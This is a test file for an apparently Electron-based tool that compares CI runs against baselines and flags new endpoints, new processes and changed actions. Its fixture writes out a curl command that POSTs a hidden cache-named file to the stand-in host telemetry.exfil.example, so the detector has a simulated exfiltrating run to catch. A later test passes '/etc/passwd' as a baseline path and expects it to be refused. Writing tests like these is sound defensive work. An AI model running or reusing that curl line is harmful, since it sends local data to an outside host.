/**
 * The baseline in the app: `compare.run` answers from the baseline case files the host gave (never from the
 * page), and `findings.list` lists the new-endpoint findings beside the case's own.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { createApi } from '../../electron/api/dispatch';
import type { CompareResult, FindingOut } from '../../shared/api';
import { NEW_ENDPOINT_KIND } from '../../shared/compare';
import { runCases, type RunCase } from '../support/run-cases';

const CURL = { exe: '/usr/bin/curl', args: ['curl', '-sS', '-X', 'POST', '--data-binary', '@/tmp/.npm-cache-8f3a.json', 'https://telemetry.exfil.example/v2/collect'] };
let good1: RunCase, good2: RunCase, bad: RunCase;

beforeAll(async () => {
  const { runs } = await runCases({
    good1: { seed: 11 },
    good2: { seed: 12 },
    bad: { seed: 13, extraEndpoints: ['telemetry.exfil.example:443'], extraProcess: CURL, checkoutSha: 'b4ffe1c0e7d1a3f2c9e8d7b6a5f4e3d2c1b0a9f8' },
  });
  [good1, good2, bad] = runs as [RunCase, RunCase, RunCase];
});

describe('compare.run / findings.list with a baseline', () => {
  it('without a baseline: no comparison, no extra findings', async () => {
    const api = createApi(bad.case);
    try {
      const r = await api.call('compare.run', {});
      expect(r).toEqual({ ok: true, value: { comparison: null, findings: [] } });
      const f = (await api.call('findings.list', {})) as { ok: true; value: { findings: FindingOut[] } };
      expect(f.value.findings.some((x) => x.kind === NEW_ENDPOINT_KIND)).toBe(false);
    } finally {
      api.close();
    }
  });

  it('with baselines from the host: the comparison, and the new endpoint among the findings', async () => {
    const api = createApi(bad.case, { baselines: () => [good1.case, good2.case] });
    try {
      const r = (await api.call('compare.run', {})) as { ok: true; value: CompareResult };
      expect(r.ok).toBe(true);
      expect(r.value.comparison!.endpoints.new.map((e) => e.endpoint)).toEqual(['telemetry.exfil.example:443']);
      expect(r.value.comparison!.processes.new.map((p) => p.exe)).toEqual(['/usr/bin/curl']);
      expect(r.value.comparison!.actions.changed.map((a) => a.action)).toEqual(['actions/checkout']);
      const f = (await api.call('findings.list', {})) as { ok: true; value: { findings: FindingOut[] } };
      const mine = f.value.findings.filter((x) => x.kind === NEW_ENDPOINT_KIND);
      expect(mine).toHaveLength(1);
      expect(mine[0]).toMatchObject({ endpoint: 'telemetry.exfil.example:443', calls: 1 });
      expect(mine[0]!.id).toBeLessThan(0);
      // The page cannot name baseline files.
      const bad2 = await api.call('compare.run', { baselines: ['/etc/passwd'] });
      expect(bad2.ok).toBe(false);
    } finally {
      api.close();
    }
  });
});
